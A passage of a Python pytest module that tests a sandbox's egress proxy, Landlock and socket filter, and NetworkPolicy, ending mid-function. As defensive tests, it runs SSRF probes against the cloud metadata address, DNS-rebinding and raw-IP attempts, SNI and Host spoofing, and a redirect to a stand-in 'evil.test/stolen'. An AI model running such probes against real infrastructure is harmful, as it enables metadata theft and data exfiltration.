"""The egress model on a real node (issue 40 items 3 and 4, and its "done when"), with
the chart's sandbox NetworkPolicy really enforced.

A session with an egress policy runs its code with network ``proxy_port``: Landlock lets
it open TCP connections to the egress proxy's port number alone (any address), and the
socket filter allows IPv4 TCP only. Which *address* that port is reached at is the
NetworkPolicy's business: the chart's policy lets sandbox pods reach the proxy pod's port
and nothing else. The tier's bridge CNI enforces no NetworkPolicy, so this module starts
a real enforcer in the tier's namespace — kube-router's network policy controller
(iptables + ipset; scripts/enforcer/, built by scripts/build-enforcer.sh) — against the
tier's apiserver. Both layers are probed: from the session's code (Landlock, seccomp and
the policy) and from a process the test runs in the sandbox pod's network namespace
(``nsenter``: the policy alone, no Landlock).

For the module the chart's egress proxy is turned on the way a platform team would
(``helm upgrade --reuse-values --set egressProxy.enabled=true``: the CA hook Job, the
proxy, the operator's proxy settings) and rolled back at the end, so the tier's other
tests see the release they installed. The tier has no DNS and no kube-proxy, so the
proxy's Deployment is given a name table (its test-only ``--hosts``) and the test CA its
upstreams chain to (``--upstream-ca``) in the same rollout, and the sandbox's code names
the proxy by its pod address. The "outside" is servers this module starts on two
documentation addresses (198.51.100.10, 203.0.113.10) it adds to the node's bridge: they
exist only inside the tier's namespace, and the proxy does not count them as internal.

The tests (one session for all, one enforcer, one proxy rollout):
- enforcement: the session's code reaches the proxy's port number only (Landlock), no
  UDP or IPv6 (seccomp); with no enforcer its pod's network reaches the test's servers —
  also a server on the proxy's port number at another address, which the code reaches
  too —, and none of them once the policy is programmed;
- each attack of issue 40 item 4 through the proxy (raw IPs, names resolving into
  forbidden ranges — the metadata address, the node, loopback where the proxy itself
  listens, an IPv4-mapped IPv6 —, another SNI or Host than the allowed name, a redirect,
  a placeholder sent to another host), a test of its own over one run of them all;
- ``pip install`` from the allowed index succeeds, from another it fails;
- code calls an allowed HTTPS API with a secret whose value the proxy injects, while the
  pod's spec, environment and files hold only the placeholder.

After the module the enforcer is stopped and its rules removed (``--cleanup-config``).
"""

from __future__ import annotations

import http.server
import json
import secrets
import socketserver
import ssl
import subprocess
import sys
import threading
from collections.abc import Iterator
from functools import partial
from pathlib import Path

import pytest
from kubeenv.client import JSON_PATCH, wait_until
from kubeenv.controlplane import BIN_DIR, spawn, stop_process
from nodeenv.network import NODE_IP, NODE_NAME, SERVICE_IP
from nodeenv.prepare import wait_for_enforcer
from nodeenv.release import NAMESPACE, RELEASE, SESSIONS
from sessions import UserSession
from wheel_index import make_wheel

from sandbox_workspace.egress.ca import InterceptCA

pytestmark = pytest.mark.node

ENFORCER = BIN_DIR / "enforcer"
PROXY_PORT = 3128  # the chart's egressProxy.port
PROXY = f"{RELEASE}-sandbox-workspace-egress-proxy"
# Documentation addresses (RFC 5737) the module adds to the node's bridge: "outside"
# hosts for the proxy (not in its forbidden ranges), existing only in the namespace.
ALLOWED_IP, OTHER_IP = "198.51.100.10", "203.0.113.10"
# api.test's TLS port: the apiserver holds :443 on every address of the namespace.
TLS_PORT = 8443
# Another listener on the proxy's pod (the test's): what an admin port would be.
ADMIN_PORT = 9090
# The proxy's name table (the tier has no DNS). The last four resolve into ranges the
# proxy must never reach, whatever the policy says: the metadata address, the node,
# loopback (where the proxy itself listens) and the node again as IPv4-mapped IPv6.
HOSTS = {
    "pypi.test": [ALLOWED_IP],
    "api.test": [ALLOWED_IP],
    "evil.test": [OTHER_IP],
    "meta.test": ["169.254.169.254"],
    "rebind.test": [NODE_IP],
    "admin.test": ["127.0.0.1"],
    "six.test": [f"::ffff:{NODE_IP}"],
}
UPSTREAM_CA = "sbw-egress-test-upstream-ca"  # ConfigMap (release namespace) for the proxy
API_SECRET = "sbw-egress-test-api"  # the platform's Kubernetes Secret with the API key
PLACEHOLDER_ENV = "SBW_SECRET_API_KEY"  # operator.models.EgressSecret's default for api-key
EGRESS = {
    "rules": [
        {"host": "pypi.test", "ports": [80, TLS_PORT], "schemes": ["http", "https"]},
        {"host": "api.test", "ports": [TLS_PORT]},
        # Allowed by the policy, refused by the proxy's forbidden ranges all the same.
        {"host": "meta.test", "ports": [80], "schemes": ["http"]},
        {"host": "rebind.test", "ports": [443]},
        {"host": "admin.test", "ports": [PROXY_PORT], "schemes": ["http"]},
        {"host": "six.test", "ports": [80], "schemes": ["http"]},
    ],
    "secrets": [
        {
            "name": "api-key",
            "host": "api.test",
            "secretKeyRef": {"name": API_SECRET, "key": "token"},
        }
    ],
}

# One probe, printed as JSON: run as the session's code (Landlock, seccomp and the
# NetworkPolicy) or by the test in the sandbox pod's network namespace (the policy
# alone). tcp: "open" (connected), "refused" or "timeout"; udp: the echoed reply or
# "timeout"; else "error <errno>" (13, EACCES: Landlock's and the socket filter's).
PROBE = r"""
import json, socket
kind, host, port = %r, %r, %d
family = socket.AF_INET6 if ":" in host else socket.AF_INET
try:
    if kind == "tcp":
        s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(1.5)
        s.connect((host, port)); out = "open"
    else:
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1.5)
        s.sendto(b"ping", (host, port)); out = s.recvfrom(64)[0].decode()
except ConnectionRefusedError:
    out = "refused"
except OSError as e:
    out = "timeout" if isinstance(e, TimeoutError) else f"error {e.errno}"
print(json.dumps(out))
"""
BLOCKED = ("timeout", "refused")  # what the enforcer's drop or reject looks like


class _Echo(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        data, sock = self.request
        sock.sendto(b"pong:" + data, self.client_address)


class _Ok(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        self.request.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")


class Targets:
    """On the node's address: a TCP server (any port), a UDP echo on port 53 — DNS to an
    address that is not the cluster's (the tier runs no cluster DNS) — and a TCP server
    on the proxy's port number, which Landlock lets the code reach: only the
    NetworkPolicy keeps the code off it."""

    def __init__(self) -> None:
        socketserver.ThreadingTCPServer.allow_reuse_address = True
        self.tcp = socketserver.ThreadingTCPServer((NODE_IP, 0), _Ok)
        self.udp = socketserver.ThreadingUDPServer((NODE_IP, 53), _Echo)
        self.proxy_port = socketserver.ThreadingTCPServer((NODE_IP, PROXY_PORT), _Ok)
        self.tcp_port = self.tcp.server_address[1]
        self.servers = (self.tcp, self.udp, self.proxy_port)
        for server in self.servers:
            threading.Thread(target=server.serve_forever, daemon=True).start()

    def close(self) -> None:
        for server in self.servers:
            server.shutdown()
            server.server_close()


@pytest.fixture(scope="module")
def targets() -> Iterator[Targets]:
    t = Targets()
    try:
        yield t
    finally:
        t.close()


class PodNet:
    """Processes of the test in a pod's network namespace (``nsenter --net``): its
    address and routes, none of the runtime's Landlock or socket filter — what the
    NetworkPolicy alone lets through."""

    def __init__(self, node_cluster, pod: dict) -> None:
        container = pod["status"]["containerStatuses"][0]["containerID"].split("//", 1)[1]
        tasks = node_cluster.containerd.ctr("tasks", "ls").splitlines()[1:]
        pid = next(line.split()[1] for line in tasks if line.split()[0] == container)
        self.netns = f"/proc/{pid}/ns/net"

    def argv(self, *args: str) -> list[str]:
        return ["nsenter", f"--net={self.netns}", "--", *args]

    def probe(self, kind: str, host: str, port: int) -> str:
        out = subprocess.run(
            self.argv(sys.executable, "-c", PROBE % (kind, host, port)),
            capture_output=True,
            text=True,
            timeout=30,
        )
        assert out.returncode == 0, out.stderr
        return json.loads(out.stdout)

    def listen(self, port: int, workdir: Path) -> subprocess.Popen[bytes]:
        """A TCP listener on ``port`` of every address of the pod (stands for a listener
        the pod's program has besides its served port: an admin or metrics port)."""
        code = (
            f"import socket\ns = socket.create_server(('0.0.0.0', {port}))\n"
            "print('up', flush=True)\nwhile True: s.accept()[0].close()"
        )
        proc = spawn(self.argv(sys.executable, "-c", code), workdir / f"listen-{port}.log")
        wait_until(
            lambda: "up" in (workdir / f"listen-{port}.log").read_text(),
            timeout=20,
            message=f"a listener on port {port} in the pod",
        )
        return proc


class _Upstream(http.server.SimpleHTTPRequestHandler):
    """An outside host: a package index (files of ``directory``) that also answers
    ``/whoami`` (the Host and Authorization it received), ``/redirect`` (302 to
    evil.test), and, as api.test, ``/check`` (200 only with the real key) and ``/echo``
    (the Authorization it received). Every request's headers are recorded."""

    protocol_version = "HTTP/1.0"

    def do_GET(self) -> None:
        seen = {
            "path": self.path,
            "host": self.headers.get("Host", ""),
            "authorization": self.headers.get("Authorization", ""),
        }
        self.server.seen.append(seen)  # type: ignore[attr-defined]
        key = self.server.api_key  # type: ignore[attr-defined]
        if self.path == "/whoami":
            return self._answer(200, json.dumps(seen).encode())
        if self.path == "/redirect":
            self.send_response(302)
            self.send_header("Location", "http://evil.test/stolen")
            self.send_header("Content-Length", "0")
            return self.end_headers()
        if self.path == "/check":
            ok = seen["authorization"] == f"Bearer {key}"
            return self._answer(200 if ok else 401, b"authorized" if ok else b"who are you")
        if self.path == "/echo":
            return self._answer(200, seen["authorization"].encode())
        return super().do_GET()

    def _answer(self, status: int, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


class _Server(http.server.ThreadingHTTPServer):
    """With ``tls``, the handshake in the request's thread: in ``accept`` (a wrapped
    listening socket) one connection that never sends a ClientHello — a tunnel the
    sandbox opened and left idle — held every later one up to its timeout (10 s)."""

    tls: ssl.SSLContext | None = None

    def finish_request(self, request, client_address) -> None:
        if self.tls is not None:
            request.settimeout(10)
            try:
                request = self.tls.wrap_socket(request, server_side=True)
            except OSError:
                return  # not TLS, or gone: nothing to answer
        super().finish_request(request, client_address)


class Outside:
    """The outside hosts on the two documentation addresses: pypi.test's index on
    ALLOWED_IP:80 and api.test over TLS (a certificate of the test's own CA) on
    ALLOWED_IP:TLS_PORT; evil.test's index on OTHER_IP:80."""

    def __init__(self, root: Path) -> None:
        self.api_key = "sk-test-" + secrets.token_hex(16)
        self.ca = InterceptCA.generate()
        self.addresses = [ALLOWED_IP, OTHER_IP]
        self.servers: list[http.server.ThreadingHTTPServer] = []
        try:
            self._start(root)
        except BaseException:
            self.close()
            raise

    def _start(self, root: Path) -> None:
        for address in self.addresses:
            ip(["addr", "add", f"{address}/32", "dev", "node0"])
        for name, address, version in (
            ("allowed", ALLOWED_IP, "1.0"),
            ("other", OTHER_IP, "6.6.6"),
        ):
            make_wheel(root / name, "egress-probe", version)
            self.servers.append(self._serve(address, 80, root / name))
        self.allowed, self.other = self.servers
        tls = self.ca.server_context("api.test")
        # Every server name a ClientHello brought here: the test of another SNI asks
        # whether the proxy let one through (this context would refuse it too).
        self.server_names: list[str | None] = []
        refuse_others = tls.sni_callback

        def record(sslobj, name, ctx):
            self.server_names.append(name)
            return refuse_others(sslobj, name, ctx) if refuse_others else None

        tls.sni_callback = record
        self.api = self._serve(ALLOWED_IP, TLS_PORT, root / "allowed", tls)
        self.servers.append(self.api)

    def _serve(
        self, address: str, port: int, directory: Path, tls: ssl.SSLContext | None = None
    ) -> http.server.ThreadingHTTPServer:
        server = _Server((address, port), partial(_Upstream, directory=str(directory)))
        server.tls = tls
        server.seen, server.api_key = [], self.api_key  # type: ignore[attr-defined]
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return server

    def close(self) -> None:
        for server in self.servers:
            server.shutdown()
            server.server_close()
        for address in self.addresses:
            ip(["addr", "del", f"{address}/32", "dev", "node0"], check=False)


def ip(args: list[str], check: bool = True) -> None:
    subprocess.run(["ip", *args], check=check, capture_output=True, timeout=10)


@pytest.fixture(scope="module")
def outside(tmp_path_factory) -> Iterator[Outside]:
    o = Outside(tmp_path_factory.mktemp("outside"))
    try:
        yield o
    finally:
        o.close()


@pytest.fixture(scope="module")
def egress_proxy(release, kube, outside) -> Iterator[str]:
    """The chart's egress proxy turned on by the platform's own upgrade for this module
    and rolled back after it (``finally``: the tier's later tests see the release they
    installed). The tier's stand-ins for DNS and a public CA — the name table and the
    test's CA as the proxy's upstream CA — are patched into the Deployment right after
    the upgrade, before anything waits, so the proxy rolls out once. Yields the proxy
    pod's address (no kube-proxy here: the Service's address leads nowhere)."""
    status = release.shell("helm status sw -n sandbox-workspace -o json", timeout=60)
    assert status.returncode == 0, status.stderr
    revision = json.loads(status.stdout)["version"]
    kube.create(
        f"/api/v1/namespaces/{NAMESPACE}/configmaps",
        {"metadata": {"name": UPSTREAM_CA}, "data": {"ca.crt": outside.ca.cert_pem.decode()}},
    )
    try:
        # No --wait: helm still waits for the CA hook Job; the rollouts are waited for
        # below, after the patch.
        up = release.shell(
            "helm upgrade sw charts/sandbox-workspace -n sandbox-workspace --reuse-values "
            "--set egressProxy.enabled=true --timeout 180s",
            timeout=240,
        )
        assert up.returncode == 0, up.stdout + up.stderr + diagnose(release)
        mount = "/etc/sbw-test-upstream"
        kube.patch(
            f"/apis/apps/v1/namespaces/{NAMESPACE}/deployments/{PROXY}",
            [
                *(
                    {"op": "add", "path": "/spec/template/spec/containers/0/args/-", "value": a}
                    for a in ("--hosts", json.dumps(HOSTS), "--upstream-ca", f"{mount}/ca.crt")
                ),
                {
                    "op": "add",
                    "path": "/spec/template/spec/volumes/-",
                    "value": {"name": "upstream-ca", "configMap": {"name": UPSTREAM_CA}},
                },
                {
                    "op": "add",
                    "path": "/spec/template/spec/containers/0/volumeMounts/-",
                    "value": {"name": "upstream-ca", "mountPath": mount, "readOnly": True},
                },
            ],
            patch_type=JSON_PATCH,
        )
        # Every Deployment of the release: the proxy (patched), the operator (its proxy
        # settings: a session's pod must be built by the new one) and the API.
        rolled = release.shell(
            "kubectl -n sandbox-workspace rollout status deployment --timeout=150s", timeout=180
        )
        assert rolled.returncode == 0, rolled.stdout + rolled.stderr + diagnose(release)
        reconnect(release, kube)

        def proxy_ip() -> str | None:
            ready = [
                p
                for p in proxy_pods(kube)
                if any(c.get("ready") for c in p["status"].get("containerStatuses") or [])
                and "--hosts" in p["spec"]["containers"][0]["args"]
                and not p["metadata"].get("deletionTimestamp")
            ]
            return ready[0]["status"].get("podIP") if ready else None

        yield wait_until(proxy_ip, timeout=60, interval=0.5, message="the patched proxy")
    finally:
        back = release.shell(
            f"helm rollback sw {revision} -n sandbox-workspace --wait --timeout 180s",
            timeout=240,
        )
        kube.delete(f"/api/v1/namespaces/{NAMESPACE}/configmaps/{UPSTREAM_CA}")
        assert back.returncode == 0, back.stdout + back.stderr + diagnose(release)
        reconnect(release, kube)


def proxy_pods(kube) -> list[dict]:
    return kube.list(
        f"/api/v1/namespaces/{NAMESPACE}/pods",
        labelSelector="app.kubernetes.io/component=egress-proxy",
    )


def diagnose(release) -> str:
    """What a failed helm upgrade or rollback left, for the failure message."""
    out = release.shell(
        "kubectl -n sandbox-workspace get pods,jobs -o wide; "
        "kubectl -n sandbox-workspace get events --sort-by=.lastTimestamp | tail -25; "
        "for p in $(kubectl -n sandbox-workspace get pods -o name | grep egress); do "
        "kubectl -n sandbox-workspace logs --tail 20 $p --all-containers; done",
        timeout=60,
    )
    return "\n--- diagnosis ---\n" + out.stdout[-6000:] + out.stderr[-2000:]


def reconnect(release, kube) -> None:
    """An upgrade may roll the API pod (a new address): wait until one API pod is left,
    then point the shared release handle at it (the tier's later tests use it)."""

    def one_api_pod() -> bool:
        pods = kube.list(
            f"/api/v1/namespaces/{NAMESPACE}/pods",
            labelSelector="app.kubernetes.io/component=api",
        )
        return len(pods) == 1 and not pods[0]["metadata"].get("deletionTimestamp")

    wait_until(one_api_pod, timeout=120, interval=0.5, message="one API pod after helm")
    release.connect(kube)


class Enforcer:
    """kube-router's network policy controller for the tier's node (scripts/enforcer/),
    started on demand, its rules removed at the end."""

    def __init__(self, kubeconfig: Path, workdir: Path) -> None:
        self.kubeconfig, self.workdir = kubeconfig, workdir
        self.proc: subprocess.Popen[bytes] | None = None

    def start(self) -> None:
        if self.proc is not None:
            return  # one enforcer for the module: the first test that needs it starts it
        self.proc = spawn(
            [
                str(ENFORCER),
                f"--kubeconfig={self.kubeconfig}",
                f"--hostname-override={NODE_NAME}",
                "--iptables-sync-period=5s",
                "-v=1",
            ],
            self.workdir / "enforcer.log",
        )

    def stop(self) -> None:
        if self.proc is None:
            return  # never started: no rules to remove
        stop_process(self.proc)
        # Its chains and sets outlive it; the rest of the tier runs without an enforcer.
        subprocess.run(
            [str(ENFORCER), "--cleanup-config"], capture_output=True, timeout=60, check=False
        )


@pytest.fixture(scope="module")
def enforcer(node_cluster, egress_proxy, tmp_path_factory) -> Iterator[Enforcer]:
    """After the proxy (set up first, so the upgrade and the rollback run with no enforcer
    and the enforcer's rules are gone before the rollback)."""
    # Built beside the tier (nodeenv.prepare): by now, normally (seconds after the
    # control plane's build, whose Go cache it reuses; the images take longer).
    why = wait_for_enforcer(timeout=240)
    if why is not None:
        pytest.fail(why)
    e = Enforcer(node_cluster.kubeconfig, tmp_path_factory.mktemp("enforcer"))
    try:
        yield e
    finally:
        e.stop()


def probe(session, kind: str, host: str, port: int) -> str:
    out = session.execute(PROBE % (kind, host, port))
    assert out["exit_code"] == 0, out
    return json.loads(out["stdout"])


@pytest.fixture(scope="module")
def egress_session(release, kube, egress_proxy, outside) -> Iterator[UserSession]:
    """The module's one session: EGRESS as its spec.egress (set by the platform on the
    SandboxSession: secrets are not the API's), the API key in a labelled Secret of its
    namespace, and a pod made for that policy (``pod_spec``; no enforcer yet)."""
    kube.create(
        f"/api/v1/namespaces/{SESSIONS}/secrets",
        {
            "metadata": {
                "name": API_SECRET,
                "labels": {"sandboxworkspace.io/egress-secret": "true"},
                "annotations": {"sandboxworkspace.io/egress-hosts": "api.test"},
            },
            "stringData": {"token": outside.api_key},
        },
    )
    s = UserSession(release, kube, f"eg-{secrets.token_hex(4)}")
    try:
        r = s.api.post("/sessions", json={})
        assert r.status_code in (200, 201, 202), r.text
        assert s.execute("print(1)")["exit_code"] == 0  # the session's first pod runs
        old = s.pod()
        assert old is not None
        kube.patch(s.sbs_path, {"spec": {"egress": EGRESS}})
        # The operator rolls a ready pod only later: the test deletes it.
        kube.delete(f"/api/v1/namespaces/{s.namespace}/pods/{old['metadata']['name']}")

        def new_pod_running() -> dict | None:
            pod = s.pod()
            fresh = pod and pod["metadata"]["uid"] != old["metadata"]["uid"]
            ready = fresh and pod["status"].get("phase") == "Running"
            return pod if ready and pod["status"].get("containerStatuses") else None

        s.pod_spec = wait_until(new_pod_running, timeout=90, interval=0.5, message="its new pod")
        env = {e["name"]: e.get("value") for e in s.pod_spec["spec"]["containers"][0]["env"]}
        assert env["SANDBOX_RUNTIME_NETWORK"] == "proxy_port", env
        assert env["SANDBOX_RUNTIME_EGRESS_PROXY_PORT"] == str(PROXY_PORT), env
        yield s
    finally:
        s.delete()
        kube.delete(f"/api/v1/namespaces/{SESSIONS}/secrets/{API_SECRET}")


@pytest.fixture(scope="module")
def pod_net(node_cluster, egress_session) -> PodNet:
    return PodNet(node_cluster, egress_session.pod_spec)


@pytest.fixture(scope="module")
def proxy_listener(node_cluster, kube, egress_proxy, tmp_path_factory) -> Iterator[int]:
    """A listener on another port of the proxy's pod: what an admin or metrics port of
    the proxy would be (ours has none). Yields its port."""
    pod = next(p for p in proxy_pods(kube) if p["status"].get("podIP") == egress_proxy)
    proc = PodNet(node_cluster, pod).listen(ADMIN_PORT, tmp_path_factory.mktemp("admin"))
    try:
        yield ADMIN_PORT
    finally:
        stop_process(proc)


def test_the_session_reaches_the_proxy_port_alone_and_the_policy_keeps_it_at_the_proxy(
    egress_session, pod_net, enforcer, targets, egress_proxy, proxy_listener
):
    s = egress_session
    # Landlock and the socket filter, whatever the network: the code connects to no
    # other port (Landlock), opens no UDP socket (DNS included) and no IPv6 one (the
    # filter); both answer EACCES.
    assert probe(s, "tcp", NODE_IP, targets.tcp_port) == "error 13"
    assert probe(s, "tcp", egress_proxy, proxy_listener) == "error 13"
    assert probe(s, "udp", NODE_IP, 53) == "error 13"
    assert probe(s, "tcp", "fd00::1", 80) == "error 13"
    # No enforcer (the control): the pod's network reaches the test's servers, the proxy
    # pod's other port, the apiserver's Service address — and so does the code, on the
    # proxy's port number at another address than the proxy's.
    assert pod_net.probe("tcp", NODE_IP, targets.tcp_port) == "open"
    assert pod_net.probe("udp", NODE_IP, 53) == "pong:ping"
    assert pod_net.probe("tcp", egress_proxy, proxy_listener) == "open"
    assert pod_net.probe("tcp", SERVICE_IP, 443) == "open"
    assert probe(s, "tcp", NODE_IP, PROXY_PORT) == "open"

    enforcer.start()
    wait_until(
        lambda: pod_net.probe("tcp", NODE_IP, targets.tcp_port) in BLOCKED,
        timeout=60,  # the controller's first sync: a few seconds on a loaded machine
        interval=0.5,
        message="the enforcer to enforce the chart's NetworkPolicy",
    )
    # The NetworkPolicy, not Landlock: the code no longer reaches the proxy's port
    # number elsewhere; the pod's network reaches only the proxy's port.
    assert probe(s, "tcp", NODE_IP, PROXY_PORT) in BLOCKED
    assert probe(s, "tcp", egress_proxy, PROXY_PORT) == "open"
    for kind, host, port in (
        ("udp", NODE_IP, 53),  # UDP, DNS to an address that is not the cluster's
        ("tcp", egress_proxy, proxy_listener),  # the proxy pod's other port
        ("tcp", SERVICE_IP, 443),  # the apiserver's Service address
        ("tcp", s.api.base_url.host, 8000),  # the API pod
        ("tcp", ALLOWED_IP, 80),  # the outside hosts, straight
    ):
        assert pod_net.probe(kind, host, port) in BLOCKED, (kind, host, port)
    assert pod_net.probe("tcp", egress_proxy, PROXY_PORT) == "open"
    # IPv6: the tier's CNI gives pods IPv4 only: no IPv6 way out to test (no route).
    assert pod_net.probe("tcp", "fd00::1", 80).startswith("error")
    # The policy's one ingress still works: the API reaches the runtime through it.
    assert s.execute("print(2)")["stdout"].strip() == "2"
    assert enforcer.proc is not None and enforcer.proc.poll() is None, "the enforcer died"


@pytest.fixture(scope="module")
def enforced_session(egress_session, enforcer, egress_proxy) -> UserSession:
    """The session once its pod is under the enforced policy and the proxy knows it."""
    s = egress_session
    enforcer.start()  # when the test above did not run
    wait_until(
        lambda: probe(s, "tcp", egress_proxy, PROXY_PORT) == "open",
        timeout=60,  # the enforcer's first sync
        interval=0.5,
        message="the sandbox to reach the egress proxy",
    )
    # The proxy reads sessions and pods every egressProxy.pollSeconds (2 s): until it
    # has seen the pod it answers "no egress policy".
    known = KNOWN % egress_proxy
    wait_until(
        lambda: "no egress policy" not in s.execute(known)["stdout"],
        timeout=30,
        interval=1,
        message="the egress proxy to know the session's pod",
    )
    return s


def run_json(session, code: str) -> dict:
    out = session.execute(code, timeout=180)
    assert out["exit_code"] == 0, out
    return json.loads(out["stdout"].strip().splitlines()[-1])


# Executed in the sandbox: the proxy's answer to a CONNECT the policy allows.
KNOWN = r"""
import socket
s = socket.create_connection((%r, 3128), timeout=10)
s.sendall(b"CONNECT pypi.test:8443 HTTP/1.1\r\nHost: pypi.test:8443\r\n\r\n")
print(s.recv(4096).decode("latin-1").split("\r\n", 1)[0])
s.close()  # the kernel keeps globals: an open tunnel would wait out the proxy's timeout
"""


# Executed in the sandbox: each attack through the proxy at its pod address, by hand
# (raw sockets: no client library follows redirects or rewrites Host on its own).
ATTACKS = r"""
import json, os, socket, ssl, urllib.error, urllib.request
PROXY = (%r, 3128)

def conversation(request):
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(request)
    data = b""
    try:
        while len(data) < 65536:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    return data.decode("latin-1")

def connect(target):
    request = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"
    return conversation(request.encode()).split("\r\n", 1)[0]

def get(url, headers="", host=None):
    host = host or url.split("/")[2]
    request = f"GET {url} HTTP/1.1\r\nHost: {host}\r\n{headers}Connection: close\r\n\r\n"
    answer = conversation(request.encode())
    return {"status": answer.split("\r\n", 1)[0], "body": answer.split("\r\n\r\n", 1)[-1][:400]}

def tls_with_sni(target, sni):
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = s.recv(4096).decode("latin-1").split("\r\n", 1)[0]
    if " 200" not in head:
        return head
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    try:
        ctx.wrap_socket(s, server_hostname=sni)
        return "handshake completed"
    except (ssl.SSLError, OSError) as e:
        return f"{type(e).__name__}: {e}"

def followed(url):
    # What a client that follows redirects does (urllib): a new request, to the new host.
    proxies = {"http": f"http://{PROXY[0]}:{PROXY[1]}"}
    opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))
    try:
        with opener.open(url, timeout=10) as r:
            return f"{r.status} {r.geturl()}"
    except urllib.error.HTTPError as e:
        return f"{e.code} {e.read().decode()[:300]}"

placeholder = os.environ[%r]
print(json.dumps({
    "raw_ip": connect("198.51.100.10:443"),
    "raw_ip6": connect("[::1]:443"),
    "metadata": get("http://meta.test/latest/meta-data/")["status"],
    "rebind": connect("rebind.test:443"),
    "mapped6": get("http://six.test/")["status"],
    "proxy_itself": get("http://admin.test:3128/")["status"],
    "not_allowed": connect("evil.test:443"),
    "tls_sni": tls_with_sni("pypi.test:8443", "evil.test"),
    "host": get("http://pypi.test/whoami", host="evil.test"),
    "redirect": get("http://pypi.test/redirect"),
    "redirect_followed": followed("http://pypi.test/redirect"),
    "placeholder_elsewhere": get(
        "http://pypi.test/whoami", f"Authorization: Bearer {placeholder}\r\n"
    ),
}))
"""


@pytest.fixture(scope="module")
def attacks(enforced_session, egress_proxy) -> dict:
    """Every attack of ATTACKS, in one run of the session's code (one execution; each
    is judged by a test of its own below)."""
    return run_json(enforced_session, ATTACKS % (egress_proxy, PLACEHOLDER_ENV))


REFUSED = "HTTP/1.1 403 Egress refused"


def refused(answer: str, why: str) -> bool:
    return answer.startswith(REFUSED) and why in answer


# Names the policy allows that resolve into ranges never reached (DNS rebinding): the
# metadata address, the node, an IPv4-mapped IPv6 form of the node, and loopback — where
# the proxy itself listens (its own interface, reached from inside).
@pytest.mark.parametrize("attack", ["metadata", "rebind", "mapped6", "proxy_itself"])
def test_an_allowed_name_resolving_into_a_forbidden_range_is_refused(attacks, attack):
    assert refused(attacks[attack], "forbidden range"), attacks[attack]


@pytest.mark.parametrize("attack", ["raw_ip", "raw_ip6"])
def test_a_raw_ip_is_refused(attacks, attack):
    # 198.51.100.10 is api.test's own address, which the proxy reaches (the tests below).
    assert refused(attacks[attack], "raw IP"), attacks[attack]


def test_a_name_outside_the_policy_is_refused(attacks, outside):
    assert refused(attacks["not_allowed"], "not in this session"), attacks["not_allowed"]
    assert not outside.other.seen, outside.other.seen


def test_an_allowed_connect_with_another_sni_is_cut(attacks, outside):
    # An allowed name in CONNECT, another in the TLS ClientHello: the proxy closes the
    # tunnel with unrecognized_name; the upstream never sees that ClientHello.
    assert "UNRECOGNIZED_NAME" in attacks["tls_sni"].upper(), attacks["tls_sni"]
    assert "evil.test" not in outside.server_names, outside.server_names


def test_another_host_header_goes_to_the_urls_host(attacks):
    # The proxy sends the URL's host: the upstream saw pypi.test, not evil.test.
    assert json.loads(attacks["host"]["body"])["host"] == "pypi.test", attacks["host"]


def test_a_redirect_to_a_forbidden_host_is_relayed_never_followed(attacks, outside):
    # The proxy relays the 302 as it came; a client following it asks for evil.test, which
    # the policy refuses.
    assert attacks["redirect"]["status"].split()[1] == "302", attacks["redirect"]
    followed = attacks["redirect_followed"]
    assert followed.startswith("403 Egress refused: evil.test is not in this session"), followed
    assert not any(r["path"] == "/stolen" for r in outside.other.seen), outside.other.seen


def test_a_placeholder_sent_to_another_host_goes_as_written(attacks, outside):
    sent = json.loads(attacks["placeholder_elsewhere"]["body"])["authorization"]
    assert sent.startswith("Bearer sbw-secret-api-key-"), attacks["placeholder_elsewhere"]
    assert all(outside.api_key not in json.dumps(r) for r in outside.allowed.seen)


# Executed in the sandbox: pip from its bundled wheel where the image's venv has none
# (the product image removes pip from its venv; Debian's python3-venv keeps a wheel), into
# the conversation's scratch directory ($TMPDIR: code may write there, not in /tmp).
PIP = (
    'PIP="python -m pip"; python -c "import pip" 2>/dev/null || '
    'PIP="python $(ls /usr/share/python-wheels/pip-*.whl | head -n1)/pip"; '
    "$PIP install --no-cache-dir --disable-pip-version-check --retries 0 --timeout 20 -vv "
    "--proxy http://{proxy}:3128 --target $TMPDIR/{target} --trusted-host {host} "
    "--index-url http://{host}/simple/ egress-probe 2>&1 | "
    "grep -E 'Successfully installed|Egress refused|ERROR|Error' | cut -c1-300"
)


def test_pip_installs_from_the_allowed_index_and_not_from_another(enforced_session, egress_proxy):
    # Two real pip runs (a few seconds each, pip's own start-up mostly): the issue's
    # "done when" is pip itself, so no cheaper client stands in for it.
    s = enforced_session
    # Then the installed module, imported: it says which index it came from.
    imported = "PYTHONPATH=$TMPDIR/t1 python -c 'import egress_probe; print(egress_probe.ORIGIN)'"
    ok = s.execute(
        PIP.format(proxy=egress_proxy, target="t1", host="pypi.test") + "; " + imported,
        language="bash",
    )
    assert "Successfully installed egress-probe-1.0" in ok["stdout"], ok
    assert ok["stdout"].strip().endswith("/allowed"), ok
    other = s.execute(
        PIP.format(proxy=egress_proxy, target="t2", host="evil.test"), language="bash"
    )
    assert "Successfully installed" not in other["stdout"], other
    assert "Egress refused: evil.test is not in this session's egress policy" in other["stdout"], (
        other
    )


# Executed in the sandbox: the allowed API called with the placeholder (urllib through
# the proxy; the CA bundle the operator points SSL_CERT_FILE at), then what the sandbox
# holds: its environment, and every string shaped like the key (``sk-test-`` + 32 hex:
# the code does not know the value) in the files it could read one from.
SECRET_CALL = r"""
import json, os, re, urllib.request, urllib.error
opener = urllib.request.build_opener(urllib.request.ProxyHandler({"https": "http://%s:3128"}))
def call(path):
    request = urllib.request.Request(
        "https://api.test:8443" + path, headers={"Authorization": "Bearer " + os.environ[%r]}
    )
